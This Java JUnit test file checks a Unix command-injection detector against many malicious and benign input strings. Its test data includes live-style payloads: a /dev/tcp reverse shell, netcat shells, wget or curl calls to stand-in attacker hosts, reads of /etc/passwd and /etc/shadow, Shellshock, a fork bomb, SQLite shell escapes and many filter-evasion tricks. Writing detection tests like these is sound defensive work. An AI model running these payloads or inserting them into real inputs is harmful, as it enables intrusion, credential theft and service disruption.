package dev.bulwark.core.internal.shell;

import static dev.bulwark.core.internal.rules.Scans.basic;
import static dev.bulwark.core.internal.rules.Scans.header;
import static dev.bulwark.core.internal.rules.Scans.standard;
import static dev.bulwark.core.internal.rules.Scans.strict;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.RuleDefinition;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UnixCommandDetectorTest {

    private final UnixCommandDetector detector = new UnixCommandDetector();

    @Test
    void declaresItsRulesUnderOneKey() {
        assertThat(detector.key()).isEqualTo("UNIXCMD");
        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("UNIXCMD");
        assertThat(detector.rules()).extracting(RuleDefinition::level)
                .contains(Level.BASIC, Level.STANDARD, Level.STRICT);
    }

    @Test
    void detectsCommandChainedAfterSemicolon() {
        assertThat(basic(detector, "127.0.0.1; cat /etc/passwd")).contains("UNIXCMD-CHAIN");
    }

    @Test
    void detectsCommandAfterPipe() {
        assertThat(standard(detector, "foo|id")).isNotEmpty();
        assertThat(standard(detector, "x|whoami")).contains("UNIXCMD-CHAIN");
    }

    @Test
    void detectsCommandAfterAndAnd() {
        assertThat(standard(detector, "true && wget http://evil.example/x.sh")).isNotEmpty();
    }

    @Test
    void detectsCommandOnNewLine() {
        assertThat(standard(detector, "name\ncat /etc/shadow")).isNotEmpty();
    }

    @Test
    void detectsDollarParenSubstitution() {
        assertThat(standard(detector, "$(whoami)")).isNotEmpty();
        assertThat(standard(detector, "report-$(uname -a).txt")).isNotEmpty();
    }

    @Test
    void detectsBacktickSubstitution() {
        assertThat(standard(detector, "`uname -a`")).isNotEmpty();
        assertThat(standard(detector, "a`wget evil.example`b")).isNotEmpty();
    }

    @Test
    void detectsProcessSubstitution() {
        assertThat(standard(detector, "<(curl http://evil.example/s)")).isNotEmpty();
    }

    @Test
    void detectsReverseShell() {
        assertThat(basic(detector, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")).contains("UNIXCMD-REVERSE-SHELL");
    }

    @Test
    void detectsShellshock() {
        assertThat(basic(detector, "() { :; }; /bin/bash -c id")).containsExactly("UNIXCMD-SHELLSHOCK");
    }

    @Test
    void detectsQuoteSplitCommandName() {
        assertThat(standard(detector, "c'a't /etc/hosts")).isNotEmpty();
        assertThat(standard(detector, "c\"a\"t /etc/hosts")).isNotEmpty();
        assertThat(standard(detector, "'i'fconfig")).contains("UNIXCMD-EVASION");
    }

    @Test
    void detectsBackslashSplitCommandName() {
        assertThat(standard(detector, ";c\\at /etc/passwd")).isNotEmpty();
    }

    @Test
    void detectsEmptyExpansionsInsideCommandName() {
        assertThat(standard(detector, "x;c$@at /etc/passwd")).isNotEmpty();
        assertThat(standard(detector, "wh$()oami")).isNotEmpty();
        assertThat(standard(detector, "who``ami")).isNotEmpty();
    }

    @Test
    void detectsIfsWordSplitting() {
        assertThat(standard(detector, ";cat${IFS}/etc/passwd")).isNotEmpty();
        assertThat(standard(detector, "cat$IFS$9/etc/passwd")).isNotEmpty();
    }

    @Test
    void detectsBraceExpansion() {
        assertThat(standard(detector, "{cat,/etc/passwd}")).isNotEmpty();
        assertThat(standard(detector, "{,ifconfig}")).isNotEmpty();
    }

    @Test
    void detectsGlobbedCommandPath() {
        assertThat(standard(detector, "/???/c?t /???/p?ss??")).isNotEmpty();
        assertThat(standard(detector, "/bin/ca? /et*/passwd")).isNotEmpty();
    }

    @Test
    void detectsGlobbedSensitiveFile() {
        assertThat(standard(detector, "/etc/pa[s]swd")).contains("UNIXCMD-GLOB-PATH");
    }

    @Test
    void detectsAnsiCQuotedName() {
        assertThat(standard(detector, "$'\\x63\\x61\\x74' /etc/passwd")).isNotEmpty();
    }

    @Test
    void detectsPathSubstringTrick() {
        assertThat(standard(detector, ";cat ${PATH:0:1}etc${PATH:0:1}passwd")).isNotEmpty();
    }

    @Test
    void detectsVariableIndirection() {
        assertThat(standard(detector, "a=c;b=at;$a$b /etc/passwd")).isNotEmpty();
        assertThat(standard(detector, "x=nc&&$x -e /bin/sh 10.0.0.1 9")).isNotEmpty();
    }

    @Test
    void detectsPathQualifiedCommand() {
        assertThat(standard(detector, "/usr/bin/id")).isNotEmpty();
        assertThat(standard(detector, "/bin/sh -c 'echo hi'")).isNotEmpty();
    }

    @Test
    void detectsInterpreterWithCode() {
        assertThat(standard(detector, "python3 -c 'import os; os.system(\"id\")'")).isNotEmpty();
        assertThat(standard(detector, "perl -e 'print 1' file")).isNotEmpty();
    }

    @Test
    void detectsEverydayWordCommandWithSystemPath() {
        assertThat(standard(detector, "cat /etc/passwd")).contains("UNIXCMD-COMMAND");
        assertThat(standard(detector, "find /etc -name shadow")).isNotEmpty();
    }

    @Test
    void detectsCommandInjectedAfterClosingQuote() {
        assertThat(standard(detector, "x'; ping -c 3 127.0.0.1; '")).isNotEmpty();
        assertThat(standard(detector, "\";id;\"")).isNotEmpty();
    }

    @Test
    void detectsCommandAfterPrefixCommand() {
        assertThat(standard(detector, "nohup nc -lvp 4444")).isNotEmpty();
        assertThat(standard(detector, "time sh -c whoami")).isNotEmpty();
    }

    @Test
    void detectsCommandOutputRunAsCommand() {
        assertThat(standard(detector, ";`cat<<<whoami`")).isNotEmpty();
    }

    @Test
    void detectsHtmlEncodedSeparator() {
        assertThat(standard(detector, "x&#59;whoami")).isNotEmpty();
    }

    @Test
    void detectsHtmlEncodedSeparatorWithoutItsSemicolon() {
        assertThat(standard(detector, "x&#59 whoami")).isNotEmpty();
        assertThat(standard(detector, "x&SEMI whoami")).isNotEmpty();
    }

    @Test
    void detectsForkBomb() {
        assertThat(standard(detector, ":(){ :|:& };:")).contains("UNIXCMD-FORK-BOMB");
    }

    @Test
    void detectsCommandInUserAgent() {
        assertThat(header(detector, "User-Agent", "ansible-playbook site.yml")).isNotEmpty();
    }

    @Test
    void reportsBareToolNameOnlyWhenStrict() {
        assertThat(standard(detector, "whoami")).isEmpty();
        assertThat(strict(detector, "whoami")).containsExactly("UNIXCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Tom & Jerry", "Q&A", "rock; paper; scissors", "cats | dogs", "time to eat", "find more",
        "O'Brien", "select your size", "1 or 2 items", "drop-down", "a=b&c=d", "a=b; c=d",
        "https://example.com/search?q=cat&page=2&sort=date", "john.doe@example.com",
        "Price: $5 + tax", "Set $HOME to your directory", "report.pdf", "2024-05-01",
        "+1 (555) 123-4567", "/home/user/docs/report.pdf", "I <3 cats", "version 1.2.3-beta",
        "**bold** and `code` in Markdown", "Use `ls` to list files", "# Heading\n- item one\n- item two",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "dGhpcyBpcyBiYXNlNjQrLz0=", "123e4567-e89b-12d3-a456-426614174000", "${TM_SESSION_ID}",
        "Women > Tops > Tank Tops", "BASE; SET SWAROVSKI", "1; exec will create the case 7",
        "Apt is gated; call when you get here", "if all else fails call grandma", "b&w photos",
        "python", "ruby on rails", "curl up with a book", "the cat sat on the mat", "*/*",
        "{\"title\":\"Shirts | ZAFUL\",\"price\":\"$12\"}", "salt & pepper; more later",
        "$(document).ready(function(){ run(); })", "It's a dog's life; more /r/dogs later",
    })
    void ignoresOrdinaryValues(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"; id", "| id", "& id", "; ls"})
    void detectsCommandAppendedAsWholeValue(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @Test
    void ignoresMarkdownTableRowStartingWithCommandName() {
        assertThat(standard(detector, "| id | name |")).isEmpty();
    }

    @Test
    void detectsCommandEndedByLiteralBackslashN() {
        assertThat(standard(detector, ";/usr/bin/id\\n")).contains("UNIXCMD-COMMAND");
    }

    @Test
    void ignoresLiteralBackslashNBetweenWordsOfText() {
        assertThat(standard(detector, "see line one\\nline two")).isEmpty();
    }

    @Test
    void ignoresSentenceOpenedByCommandName() {
        assertThat(standard(detector, "bash headers to use when developing new loadable builtins.")).isEmpty();
    }

    @Test
    void detectsCommandWithFewPlainArguments() {
        assertThat(standard(detector, "ansible-galaxy collection install community.general")).contains("UNIXCMD-COMMAND");
    }

    @Test
    void ignoresUserAgentHeader() {
        assertThat(header(detector, "User-Agent",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")).isEmpty();
        assertThat(header(detector, "User-Agent", "curl/8.4.0")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1;sleep 5", "x;sleep 10", "| sleep 10", "; sleep 5 ;", "' ; id ; '", "\" | id | \"",
        "; ping -c 10 127.0.0.1 ;"})
    void blocksShortCommandWithNumbersAfterSeparator(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1\nid", "127.0.0.1\nsleep 5", "42\nuname"})
    void blocksCommandOnLineAfterLoneAddressOrNumber(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1\r\nid", "127.0.0.1\r\nsleep 5", "42 \r\nuname", "1\r\n\r\nping -c 5 127.0.0.1"})
    void blocksCommandOnLineAfterLoneAddressWithCrlfLineBreak(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"127.0.0.1 ; sleep 5", "1; sleep 5", "1 ; ls -la", "1\t;\tsleep\t5", "1 & sleep 5",
        "127.0.0.1 & ping -c 5 127.0.0.1"})
    void blocksCommandWithArgumentsAfterSpacedSeparatorFollowingLoneAddress(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1' ; sleep 5 #", "1'; sleep 5 #", "1\"; sleep 5 #", "8.8.8.8' & sleep 10 &'"})
    void blocksCommandAfterLoneValueThatClosesTheQuoteItWasInjectedInto(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"2; yes", "1; w", "10:30; date", "A4; cat", "2024; last", "1; sleep well", "Flat 2; yes",
        "2 & 3", "1 & 2 & 3", "Tom & Jerry 2", "1) ls", "Step 1 ; sleep 5", "1)(1"})
    void allowsAnswersListsAndProseAfterLoneNumber(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"|usr/bin/id", ";usr/bin/whoami", "|sbin/ifconfig", ";usr/local/bin/python -c 1",
        "a|usr/bin/curl -s evil.example"})
    void blocksCommandNamedThroughRelativeSystemBinDirectory(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"usr/bin/python3.11", "usr/sbin/nginx", "usr/local/bin/node --version",
        "usr/bin/python is the interpreter", "sbin/init starts first"})
    void allowsRelativeSystemBinPathOpeningTheValue(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"`id`", "`sleep 5`", "'`whoami`'"})
    void blocksValueWrappedInBackticks(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x && id", "x || id", "x || sleep 5 ||", "x | sleep 5", "\nid\n",
        "test.com; dig x.evil.example"})
    void blocksCommandEndingLogicalChainOrPipe(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"rock && roll", "Tom && Jerry", "| a | sleep 5 |", "cats || dogs", "yes && no"})
    void allowsLogicalOperatorsAndTableCellsInProse(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void blocksBraceGroupGluedToCommand() {
        assertThat(standard(detector, ";{whoami;}")).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"&id", "&id&", "&sleep 5", "&ls", "&w (x"})
    void blocksCommandGluedToAmpersandThatOpensTheValue(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a&id&b", "x&list", "&copy 2024", "&nbsp", "&id=5", "&page"})
    void allowsQueryStringsAndEntitiesAroundAmpersand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void blocksOptionsAfterAmpersand() {
        assertThat(standard(detector, "a&ls -la&")).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a;ps aux", "x && ps aux", "1\nps aux", "a|ps axjf", "a;tar czf /tmp/x.tgz x",
        "x && tar xvf x.tar"})
    void blocksOptionLettersWrittenWithoutDashAfterSeparator(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$(printf \"\\x69\\x64\")", "$(printf '\\151\\144')", "`printf \"\\x77\\x68\\x6f\\x61\\x6d\\x69\"`"})
    void blocksCommandNamePrintedFromEscapesInsideSubstitution(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"$(printf \"hello\\n\")", "echo \"\\x41BC\"", "printf '%s\\n' total"})
    void allowsPrintedTextThatNamesNoCommand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x;./x.sh", "x;../x", "x && ./exploit", "x;/tmp/p", "$(./x.sh)", "x;/dev/shm/.x",
        "1\n./x.sh", "x|./a.out"})
    void blocksProgramRunFromWorkingOrTemporaryDirectoryAfterSeparator(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/var/log;/tmp/app", "paths: /var/cache;/tmp/cache", "./docs;./README.md",
        "~/notes;../shared/notes"})
    void allowsListOfPathsJoinedBySemicolons(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a/b;./x.sh", "upload.txt;/tmp/p", "x;/dev/shm/x"})
    void blocksProgramFromTemporaryDirectoryAfterWordThatIsNoPath(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"./install.sh", "see docs; ./docs/a.md", "[x](./docs/a.md)", "a;./", "x; ./x.sh"})
    void allowsRelativePathsInProseAndLinks(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x;. /tmp/x.sh", "x;. ./x.sh", "x; . /tmp/x"})
    void blocksFileSourcedWithDotAfterSeparator(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a;.", "Hello. . . world", "a; . b", ". . .", "...",
        "present). Please leave it at the neighbour's door. Second floor, ring twice; the bell's broken. Please leave"
            + " it at the neighbour's door. Gift wrap, no invoice inside (it's a present). Call before delivery"})
    void allowsFullStopsThatSourceNoFile(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void blocksShellNamedThroughBashVariable() {
        assertThat(standard(detector, "x;$BASH -c id")).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x;awk 'BEGIN {system(\"id\")}'", "x; gawk '{print $1}'", "1\nawk 'BEGIN{system(\"id\")}'"})
    void blocksAwkProgramAfterSeparator(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"I like awk {it is fun}", "x;awk hello", "awk (the tool) is fun"})
    void allowsAwkNamedInProse(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"awk '{print $1}' file.txt", "awk '{ if ($3 > 10) print }' data.csv",
        "gawk '{sum += $3} END {print sum}' sales.csv"})
    void allowsAwkProgramThatOnlyPrintsOpeningTheValue(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"awk 'BEGIN {system(\"id\")}'", "awk '{print > \"/tmp/x\"}' f",
        "awk 'BEGIN {\"id\" | getline x; print x}'"})
    void blocksAwkProgramReachingOutsideAwkOpeningTheValue(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"ps aux", "a;ps we", "a;tar cut", "x && ps and", "P.S. aux", "Note; ps also"})
    void allowsWordsAfterPsAndTarThatAreNoOptionLetters(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"pip install something", "pip3 install x", "npm install evil-package"})
    void blocksPackageManagerInstall(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"python3.10 cmd", "echo | gcc7.4"})
    void blocksVersionedInterpreterOrPipeFromCommand(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat /et*/*wd", "cat+/et*/*wd", "ls /a[b///]c", "cat /path/file.gz", "rc script.sh"})
    void blocksCommandWithGlobPathOrScriptFile(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"$((1+1))", "$(($() 42))", "$[2+2]", "$[]", "${x#{}}", "${PATH#{}/}", "${HOME:-/tmp}",
        "${!name}", "${#name}", "~+", "~-", "~-1", "~+5/x", "!-1!-2"})
    void blocksShellOnlyExpansion(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-EXPANSION");
    }

    @ParameterizedTest
    @ValueSource(strings = {"${name}", "${server.port:8080}", "${total/2}", "${x % 2}", "$[0].name", "$[*]",
        "$['store']", "$[-1:]", "~/projects/app", "~+ ok", "~-~-~", "Save ~-50% today", "5!-1", "x != -1",
        "Wow!-1 point"})
    void allowsPlaceholdersPathsAndPunctuationThatLookLikeExpansions(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"a & b", "Tom & Jerry", "| id | name |", "| id | name |\n|----|------|\n| 1 | Bob |",
        "I need to sleep 5 hours tonight", "sleep 5 hours", "Then; sleep 5 hours", "Meet at 5;sleep well",
        "O'Brien", "1 Main St; Apt 4", "report.final.pdf", "`id` is the primary key", "see `id` column",
        "Thanks\ntest", "Hi,\nyes I can come", "Order 12345\ndate tomorrow", "yes | no", "rock|paper|scissors",
        "python script.py is easy", "Add `--force` flag to `cargo install`", "Use `node my-app.js` to start",
        "at /rustc/a55dd71/library/core/src/option.rs:929:29", "# Title\n\nSome *bold* text and `code`.",
        "`file`;", "version 1.2.3; date 2024-01-01"})
    void allowsProseMarkdownAndOrdinaryValues(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void detectsXtermDisplayedOnRemoteHost() {
        assertThat(standard(detector, ";xterm -display 10.0.0.1:1")).contains("UNIXCMD-CHAIN");
    }

    @ParameterizedTest
    @ValueSource(strings = {"time who", "'time' who", "\"time\" who", "nice id"})
    void reportsPrefixCommandRunningAnotherOnlyWhenStrict(String value) {
        assertThat(standard(detector, value)).isEmpty();
        assertThat(strict(detector, value)).contains("UNIXCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Sh -c whoami", "'TiMe Sh -c whoami", "Sh -c 'cat /etc/passwd'"})
    void blocksShellGivenCommandStringWhateverTheCaseOfItsName(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Sh -c hello", "Fish -c salmon", "Rc -c circuit"})
    void allowsCapitalisedShellNameWithoutKnownCommand(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"1;.sh whoami", "1;.shell whoami", "1; .system id", ";\n.databases", "x;\n.import /etc/passwd t",
        "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n", "1;.\\\"shell whoami", "1;.\\'shell whoami", "1\n.load /tmp/evil.so",
        "');\r\n.output /var/www/shell.php"})
    void blocksSqliteDotCommandAfterSeparator(String value) {
        assertThat(standard(detector, value)).contains("UNIXCMD-SQLITE-DOT-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"body { color: red; }\n.tables td { padding: 0 }", "$('#x')\n.load(\"/a\")",
        "Done;.output-area", "It ends here;. Tables are nice", "Wait...\n...read more", "see .shell docs",
        "a;.Shell whoami", "v1.2;.net", "promise\n  .then(done)"})
    void allowsDotWordsThatAreNoSqliteDotCommand(String value) {
        assertThat(standard(detector, value)).doesNotContain("UNIXCMD-SQLITE-DOT-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Run `npm install` first, then `npm test`.", "Use `ls` or `find` here",
        "`make` and `make test`"})
    void allowsSeveralMarkdownCodeSpansInProse(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void detectsBacktickSubstitutionsGluedTogether() {
        assertThat(standard(detector, "`cut crs312``dig 34test`")).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/bin/zsh", "/bin/bash", "/usr/bin/fish", "/bin/sh"})
    void keepsBareLoginShellPathForStrict(String value) {
        assertThat(standard(detector, value)).isEmpty();
        assertThat(strict(detector, value)).contains("UNIXCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {";/bin/zsh", "/bin/zsh -c id", "/usr/[a-z]in/bash", "/bin/ab", "bin/chef"})
    void detectsShellPathRunOrHidden(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"set ${HOME}/bin on your PATH", "set $HOME/bin on your PATH"})
    void allowsEverydayWordOpeningSentenceWithSystemDirectory(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void detectsEverydayWordWithSystemPathAndOptions() {
        assertThat(standard(detector, "find /etc -name passwd -exec cat {} +")).contains("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {"$((", "$[1+", "${a#", "~-", "!-1", "; sleep 5", "`id`", "{a;", "1\n"})
    void finishesQuicklyOnMegabyteOfNewEvidence(String unit) {
        String value = unit.repeat((1 << 20) / unit.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"'((((", "<<<<", "${${${", ";;;;", "$($($(", "`", "{a,{a,{a,", "\\", "$'\\x", "a=b;", "\n",
        ";\\n ", ";.\"", ";. "})
    void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
        String value = unit.repeat((1 << 20) / unit.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
    }

    @Test
    void readsEscapedLineBreaksBeforeBraceOnceForSqliteDotCommands() {
        String value = ";" + ".shell \\n".repeat((1 << 20) / 9) + "{";
        assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> assertThat(standard(detector, value)).doesNotContain("UNIXCMD-SQLITE-DOT-COMMAND"));
    }

    @Test
    void finishesQuicklyOnDeeplyNestedSubstitutions() {
        String value = "$(".repeat(100_000) + "id" + ")".repeat(100_000);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(detector, value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/?args=env --version", "https://example.com/?q=perf+--version",
        "http://shop.example/search?page=2&q=ls -la /etc", "https://example.com/x?a=1&cmd=cat+/etc/passwd#top"})
    void readsCommandsInTheQueryOfAUrlInAHeader(String referer) {
        assertThat(header(detector, "Referer", referer)).containsExactly("UNIXCMD-COMMAND");
    }

    @Test
    void readsCommandsInTheQueryOfARewrittenUrlHeader() {
        assertThat(header(detector, "X-Original-URL", "/search?q=;id")).containsOnly("UNIXCMD-COMMAND");
        assertThat(header(detector, "X-Original-URL", "/search?q=cat+toys")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://shop.example/search?q=how+to+use+ls+-la&page=2",
        "https://www.google.com/search?q=cat+food+delivery&oq=cat&ie=UTF-8", "https://shop.example/p?ref=sleep+5+hours",
        "https://docs.example/cli#usage?q=env --version", "see https://example.com/?q=env --version"})
    void ignoresOrdinaryQueriesAndTextOutsideAUrlQueryInAHeader(String referer) {
        assertThat(header(detector, "Referer", referer)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {">/tmp/curl", "> /var/www/html/x.php", "1>/tmp/x", ">>/etc/profile", "&>/dev/shm/x",
        ">/tmp/x;id", "123>/tmp/x", "\"  >/tmp/x", "' 1>>/tmp/x"})
    void detectsARedirectionThatWritesAFileWithNoCommand(String value) {
        assertThat(standard(detector, value)).containsExactly("UNIXCMD-COMMAND");
    }

    @ParameterizedTest
    @ValueSource(strings = {">/tmp", "> /tmp is full again", "> quoted text", ">5 items", ">/usr/local/ is where it goes"})
    void ignoresQuotesAndComparisonsThatStartWithAnAngleBracket(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"whoami says root lol", "whoami tells you the current user", "bash the bishop",
        "ifconfig vs ip addr", "bash script if else"})
    void allowsCommandNameOpeningSentenceWithProseOperand(String value) {
        assertThat(standard(detector, value)).isEmpty();
        assertThat(header(detector, "X-Filter", value)).isEmpty();
    }

    @Test
    void allowsSentenceEndedBySeparatorWhenProseFollows() {
        assertThat(standard(detector, "ifconfig vs ip addr; both still work")).isEmpty();
    }

    /** A host after the words makes a callback of it, the usual test of a blind injection. */
    @ParameterizedTest
    @ValueSource(strings = {"curl to attacker.example", "wget the attacker.example", "nslookup 1.2 attacker.example",
        "ssh into 192.168.1.10 and check"})
    void blocksSentenceLikeCommandThatNamesAHost(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"whoami meaning", "dmesg output explained"})
    void allowsOptionsOnlyCommandFollowedByWord(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"bash 5.2.15(1)-release", "zsh 5.9 (x86_64-apple-darwin23.0)", "python 3.12.1"})
    void allowsCommandNameFollowedByVersionBanner(String value) {
        assertThat(standard(detector, value)).isEmpty();
    }

    @Test
    void allowsCapitalisedShellNameInProductName() {
        assertThat(standard(detector, "Bash & Co. party supplies")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"whoami says root", "bash 5.2.15(1)-release", "Bash & Co. party supplies"})
    void reportsSentenceLikeCommandNameAtStrictOnly(String value) {
        assertThat(strict(detector, value)).containsExactly("UNIXCMD-WEAK");
    }

    @ParameterizedTest
    @ValueSource(strings = {";whoami the", "; whoami the", "|whoami meaning", "&whoami says", "x && whoami the",
        "& whoami the"})
    void blocksSentenceLikeCommandAfterSeparator(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"whoami the; id", "bash 5.2.15(1)-release; id", "ping to 127.0.0.1; sleep 5",
        "ifconfig vs; id", "whoami the; cat /etc/passwd", "whoami the; /tmp/x"})
    void blocksSentenceLikeCommandFollowedByCommandAfterSeparator(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"cat to /etc/passwd", "bash the -c id", "bash to <(curl evil.example/x)",
        "whoami the > /tmp/x", "nc to evil.example 4444 -e /bin/sh", "curl to http://evil.example/x.sh",
        "bash the $(id)", "bash the `id`", "bash 5.2 -c id", "bash 5.2(1) /etc/passwd",
        "ssh into evil.example -R 4444:localhost:22"})
    void blocksProseOperandFollowedByCommandLineArguments(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"ping 127.0.0.1", "ssh 10.0.0.1"})
    void blocksNetworkCommandWhoseAddressLooksLikeVersion(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"sudo the", "wh\\oami the", "w'h'oami the", "/usr/bin/whoami the", ";cat the_secret"})
    void blocksProseOperandAfterPrefixPathOrEvasion(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"Bash -c id", "BASH -c id", "Bash /tmp/x.sh", "; Bash -c id"})
    void blocksCapitalisedShellNameWithCommandLineArguments(String value) {
        assertThat(standard(detector, value)).isNotEmpty();
    }
}
